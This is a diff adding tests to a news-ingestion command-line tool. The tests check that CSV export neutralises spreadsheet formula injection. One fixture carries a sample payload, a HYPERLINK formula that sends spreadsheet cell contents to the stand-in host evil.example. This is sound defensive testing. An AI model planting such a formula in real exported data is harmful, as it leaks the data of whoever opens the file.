@@ -11,6 +11,8 @@ import sys
 
 import pytest
 from click.testing import CliRunner
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from newsingest.cli import cli
 
@@ -526,3 +528,47 @@ def test_status_says_nothing_of_title_only_articles_when_there_are_none(seeds):
     run("add", seeds, "--workers", "0")
     assert "title only" not in run("status").stdout
     assert json.loads(run("status", "--format", "json").stdout)["title_only"] == 0
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_written_as_text(
+    tmp_path, isolated_db
+):
+    folder = tmp_path / "scraped"
+    folder.mkdir()
+    (folder / "a.txt").write_text(
+        '=HYPERLINK("http://evil.example/?d="&A1,"Harga beras")\n\n'
+        "@SUM(1+1) harga beras naik di pasar induk Cipinang menjelang akhir pekan, kata "
+        "pedagang beras kepada wartawan pada hari Senin.\n",
+        encoding="utf-8",
+    )
+    run("add", folder, "--workers", "0")
+    exported = next(csv.DictReader(io.StringIO(run("export", "--format", "csv").stdout)))
+    assert exported["title"] == "'" + '=HYPERLINK("http://evil.example/?d="&A1,"Harga beras")'
+    assert exported["body"].startswith("'@SUM(1+1) harga beras")
+    found = next(csv.DictReader(io.StringIO(run("query", "beras", "--format", "csv").stdout)))
+    assert found["title"].startswith("'=HYPERLINK(")
+    # JSON output is for programs and keeps the text as it is
+    assert json.loads(run("export").stdout)["title"].startswith("=HYPERLINK(")
+
+
+def test_spreadsheet_safe_numbers_and_plain_text_unchanged():
+    from newsingest.render import spreadsheet_safe
+
+    assert spreadsheet_safe("-6.2146") == "-6.2146"
+    assert spreadsheet_safe("+62") == "+62"
+    assert spreadsheet_safe("Jakarta - Polisi") == "Jakarta - Polisi"
+    assert spreadsheet_safe("- butir pertama") == "'- butir pertama"
+    assert spreadsheet_safe("-1+1") == "'-1+1"
+    assert spreadsheet_safe("\t=1") == "'\t=1"
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.text(min_size=1))
+def test_a_csv_text_cell_reads_back_as_written_or_apostrophed_and_never_as_a_formula(text):
+    from newsingest.render import csv_rows
+
+    written = "".join(csv_rows([{"t": text}], ["t"]))
+    cell = list(csv.reader(io.StringIO(written, newline="")))[1][0]
+    assert cell in (text, "'" + text)
+    assert cell == text or text[0] in "=+-@\t\r"
+    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or float(cell) is not None
